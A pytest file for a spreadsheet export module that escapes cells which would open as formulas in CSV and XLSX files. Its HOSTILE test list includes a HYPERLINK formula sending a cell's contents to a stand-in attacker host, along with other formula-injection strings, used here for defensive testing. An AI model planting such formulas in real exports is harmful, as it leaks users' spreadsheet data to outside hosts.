"""Writing CSV and XLSX files (cairn/core/spreadsheets.py): no cell opens as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from cairn.core.spreadsheets import csv_text, safe_cell, xlsx_bytes

HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A2,"Cliquez")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Un parrainage", "", " =1+1", "'=déjà", 0, -5, 2.5, Decimal("-0.4"), dt.date(2024, 6, 1), None], ids=repr
)
def test_other_values_are_kept_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_other_objects_become_text_and_are_checked_too() -> None:
    class Title:
        def __str__(self) -> str:
            return "=1+1"

    assert safe_cell(Title()) == "'=1+1"
    assert safe_cell(True) == "True"


def test_a_csv_neutralises_every_cell_headers_included() -> None:
    text = csv_text(["=titre", "total"], [[title, -3] for title in HOSTILE])

    rows = list(csv.reader(io.StringIO(text)))

    assert rows == [["'=titre", "total"], *(["'" + title, "-3"] for title in HOSTILE)]


def test_an_xlsx_writes_text_as_strings_and_numbers_as_numbers() -> None:
    data = xlsx_bytes([("feuille", ["=titre", "total", "taux"], [[title, -3, 0.25] for title in [*HOSTILE, "#N/A", "a\x07b"]])])

    sheet = load_workbook(io.BytesIO(data))["feuille"]
    cells = [cell for row in sheet.iter_rows() for cell in row]

    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["'=titre", "total", "taux"],
        # XML reads a carriage return back as a line feed.
        *(["'" + title.replace("\r", "\n"), -3, 0.25] for title in HOSTILE),
        ["#N/A", -3, 0.25],  # text, not Excel's error value
        ["ab", -3, 0.25],  # a character XML cannot hold is dropped
    ]
    assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
    assert {cell.data_type for cell in cells if isinstance(cell.value, (int, float))} == {"n"}
